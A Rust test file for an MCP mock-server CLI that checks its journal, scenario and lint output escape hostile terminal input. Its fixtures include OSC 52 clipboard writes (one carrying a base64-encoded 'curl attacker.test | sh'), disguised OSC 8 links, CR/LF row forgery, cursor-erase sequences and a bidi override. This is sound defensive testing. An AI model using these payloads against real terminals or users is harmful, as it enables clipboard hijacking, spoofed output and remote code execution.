//! What `calls`, `calls --follow`, `scenarios` and `lint` print is safe on a terminal: a tool
//! name, an argument, a scenario name or a line of a tool file carrying ESC sequences (OSC 52
//! clipboard writes, OSC 8 links, cursor moves), CR/LF or bidi overrides is shown escaped, and
//! a terminal that reports no width gets 80 columns. Pinned as transcripts.

use std::process::{Command, Stdio};
use std::time::Duration;

use serde_json::json;

use crate::support::{BIN, OK, Project, Run, StdioServer, lines_of, tool_file};
use crate::transcript::{TIME, assert_run_matches, assert_transcript};

/// Tool names a hostile client sends, each one an attack on whoever reads the journal.
fn hostile_names() -> Vec<String> {
    vec![
        // OSC 52: writes the reader's clipboard.
        "\u{1b}]52;c;Y3VybCBhdHRhY2tlci50ZXN0IHwgc2g=\u{7}ride_book".into(),
        // OSC 8: a link to somewhere else under a harmless name.
        "\u{1b}]8;;https://attacker.test/\u{1b}\\reverse_geocode\u{1b}]8;;\u{1b}\\".into(),
        // CR/LF: a forged row.
        "ride_book\r\n│ 2026-01-01T00:00:00.000Z ┆ cart_clear ┆ ok".into(),
        // Cursor up and erase: hides the row above.
        "\u{1b}[1A\u{1b}[2Kcart_clear".into(),
        // A name of 3,000 characters.
        "x".repeat(3000),
    ]
}

/// Journals each hostile call through a real `serve --stdio`, as an MCP client would make it.
fn journal_hostile_calls(project: &Project) {
    let mut command = project.command();
    command.args(["serve", "--stdio"]);
    let mut server = StdioServer::start(command, Stdio::null());
    server.initialize();
    let mut calls: Vec<(String, serde_json::Value)> = hostile_names()
        .into_iter()
        .map(|name| (name, json!({})))
        .collect();
    // U+202E in an argument: reverses what follows it on screen.
    calls.push((
        "food_merchant_search".into(),
        json!({"query": "\u{202e}ihsus", "latitude": 25.0866, "longitude": 55.1474}),
    ));
    for (id, (name, arguments)) in calls.into_iter().enumerate() {
        let id = id + 2;
        server.send_json(&json!({"jsonrpc": "2.0", "id": id, "method": "tools/call",
            "params": {"name": name, "arguments": arguments}}));
        assert_eq!(server.next()["id"], id, "answered");
    }
    server.close_stdin();
    assert!(
        server
            .process
            .wait_for_exit(Duration::from_secs(30))
            .is_some_and(|status| status.success()),
        "serve --stdio exits 0"
    );
}

/// A tool whose scenario names and match rule carry escapes, and one scenario `lint` finds
/// broken, quoted with its line.
fn hostile_tool_files(project: &Project) {
    let scenarios = format!(
        "{OK}\n## Scenario: \u{1b}]52;c;aGk=\u{7}pick-me\n\n```json match\n{{\"q\": \"~\u{202e}ab\"}}\n```\n\n```json response\n{{\"v\": \"x\"}}\n```\n\n## Scenario: \u{1b}[2Jno-answer\u{1b}[8m\n\nnothing here\r, hidden\n"
    );
    project.write("tools/hostile.md", &tool_file("hostile", &scenarios));
}

#[test]
fn calls_and_calls_follow_escape_every_cell() {
    let project = Project::copy_of_repo();
    journal_hostile_calls(&project);
    assert_transcript(&project, "terminal-calls", &["calls"]);

    // `--follow` prints rows of its own, one line each.
    let mut follow = project
        .command()
        .args(["calls", "--follow", "--last", "0"])
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .expect("calls --follow starts");
    let rows = lines_of(follow.stdout.take().expect("stdout"));
    let next = || {
        rows.recv_timeout(Duration::from_secs(30))
            .expect("a line in time")
    };
    while !next().starts_with('└') {}
    journal_hostile_calls(&project);
    let time = regex::Regex::new(TIME).expect("a pattern");
    let seen: Vec<String> = (0..6)
        .map(|_| time.replace(&next(), "[TIME]").into_owned())
        .collect();
    let _ = follow.kill();
    let _ = follow.wait();
    let expected = [
        r"[TIME]  \u{1b}]52;c;Y3VybCBhdHRhY2tlci50ZXN0IHwgc2g=\u{7}ride_book  -    {}  isError",
        r"[TIME]  \u{1b}]8;;https://attacker.test/\u{1b}\reverse_geocode\u{...  -    {}  isError",
        r"[TIME]  ride_book\r\n│ 2026-01-01T00:00:00.000Z ┆ cart_clear ┆ ok  -    {}  isError",
        r"[TIME]  \u{1b}[1A\u{1b}[2Kcart_clear  -    {}  isError",
        r"[TIME]  xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx...  -    {}  isError",
        r#"[TIME]  food_merchant_search  no-results    {"query":"\u{202e}ihsus","latitude":25.0866,"longitude":5...  "#,
    ];
    assert_eq!(seen, expected);
}

#[test]
fn a_terminal_that_reports_no_width_gets_eighty_columns() {
    let project = Project::copy_of_repo();
    journal_hostile_calls(&project);
    // `script` runs the command on a terminal of its own; with no terminal around it, that
    // terminal reports a width of 0, as some CI consoles do.
    let output = Command::new("script")
        .args(["-q", "-e", "-c", &format!("'{BIN}' calls"), "/dev/null"])
        .current_dir(project.path())
        .env("NO_COLOR", "1")
        .env_remove("COLUMNS")
        .stdin(Stdio::null())
        .output()
        .expect("script runs");
    let mut run = Run::from(output);
    run.stdout = run.stdout.replace("\r\n", "\n");
    let widths: Vec<usize> = run.stdout.lines().map(|l| l.chars().count()).collect();
    assert!(
        widths.iter().all(|&w| w <= 80) && widths.contains(&80),
        "{widths:?}\n{}",
        run.stdout
    );
    assert_run_matches(
        &project,
        "terminal-calls-no-width",
        "careem-mcp calls",
        &run,
    );
}

#[test]
fn scenarios_and_lint_escape_names_rules_and_quoted_lines() {
    let project = Project::empty();
    hostile_tool_files(&project);
    assert_transcript(&project, "terminal-scenarios", &["scenarios", "hostile"]);
    assert_transcript(&project, "terminal-lint-short", &["lint"]);
    assert_transcript(
        &project,
        "terminal-lint-full",
        &["lint", "--format", "full"],
    );
}
